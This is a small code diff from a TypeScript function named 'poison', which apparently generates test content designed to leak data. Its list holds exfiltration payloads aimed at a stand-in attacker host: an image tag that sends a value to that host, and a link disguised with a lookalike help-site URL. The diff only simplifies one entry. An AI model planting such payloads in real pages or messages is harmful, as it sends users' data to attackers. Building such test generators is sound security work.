@@ -188,7 +188,7 @@ export function poison(random: () => number, loot: Pick<Loot, "others" | "payloa
       `[the form][f]`,
       `<img src="https://${evilHost}/${own}">`,
       `www.${evilHost}/${own}`,
-      `${evilHost}`,
+      evilHost,
       `https://help.pinewood.example/?d=${own}`,
       `https://help.pinewood.example@${evilHost}/`,
       other,
